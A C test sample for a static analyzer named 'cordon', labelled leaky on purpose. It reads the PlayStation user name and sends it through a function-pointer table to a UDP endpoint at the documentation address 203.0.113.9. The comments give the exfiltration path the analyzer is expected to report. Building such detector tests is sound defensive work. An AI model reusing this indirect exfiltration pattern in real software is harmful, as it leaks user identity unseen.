/* psn_callback_table: sample title (f). LEAKY, through a callback table.
 *
 * What it does: reads the PlayStation user name
 * (sceUserServiceGetInitialUser, sceUserServiceGetUserName) and hands it to
 * every entry of g_reporters, a table of function pointers: report_to_log
 * prints it locally, report_to_server sends it with sendto in a UDP
 * datagram to 203.0.113.9:7777 (TEST-NET-3, a documentation address). The
 * table is a mutable global, so the calls stay indirect at -O2.
 *
 * What cordon must find: one exfiltration path, source
 * sceUserServiceGetUserName (playstation, identity) to sink sendto in
 * report_to_server, reached through the table, endpoint 203.0.113.9
 * (unknown vendor): high under zero-trust.
 *
 * Running it: the samples' tests listen on 203.0.113.9:7777 in an empty
 * network namespace; the datagram must read "user=MockPSNUser". */
#include "sample_net.h"

#include <orbis/UserService.h>

#include <stdio.h>
#include <string.h>

typedef void (*reporter_fn)(const char* user_name);

static void report_to_log(const char* user_name) {
  printf("sample: local log user=%s\n", user_name);
}

static void report_to_server(const char* user_name) {
  char datagram[64];
  int length = snprintf(datagram, sizeof datagram, "user=%s", user_name);
  sample_socket_t fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd == SAMPLE_BAD_SOCKET) return;
  struct sockaddr_in to;
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons(7777);
  inet_pton(AF_INET, "203.0.113.9", &to.sin_addr);
  long sent = (long)sendto(fd, datagram, length, 0, (const struct sockaddr*)&to, sizeof to);
  printf("sample: sendto 203.0.113.9:7777 %s\n", sent == length ? "sent" : "failed (offline)");
  sample_close_socket(fd);
}

/* External linkage and writable: the compiler cannot fold the calls. */
reporter_fn g_reporters[] = {report_to_log, report_to_server};

int main(void) {
  if (sample_net_init() != 0) return 1;
  int32_t user = 0;
  char name[32];
  if (sceUserServiceGetInitialUser(&user) != 0) return 1;
  if (sceUserServiceGetUserName(user, name, sizeof name) != 0) return 1;
  for (size_t i = 0; i < sizeof g_reporters / sizeof g_reporters[0]; ++i) g_reporters[i](name);
  return 0;
}
